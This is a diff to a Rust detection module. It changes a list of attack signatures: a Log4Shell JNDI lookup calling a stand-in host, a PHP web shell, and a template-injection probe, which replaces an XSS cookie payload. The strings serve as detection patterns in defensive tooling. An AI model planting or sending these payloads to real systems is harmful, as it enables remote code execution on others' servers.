@@ -84,10 +84,10 @@ fn declared(choice: u8, body: &[u8]) -> Message<'_> {
     }
 }
 
-/// Attacks that no text before or behind them undoes. SQL is not among them, since behind a quote it is a string, and commands
+/// Attacks that no text before or behind them undoes. Markup is not among them, since it is structure in XML; SQL is not among them, since behind a quote it is a string, and commands
 /// are not, since a text of several lines may show them (docs/detection.md).
 const ATTACKS: &[&str] =
-    &["${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "<script>alert(document.cookie)</script>"];
+    &["${jndi:ldap://evil.example/a}", "<?php system($_GET['c']); ?>", "{{self.__init__.__globals__.__builtins__}}"];
 
 /// What is not inspected for these reasons is blocked by default.
 const BLOCKED_BY_DEFAULT: &[SkipReason] = &[
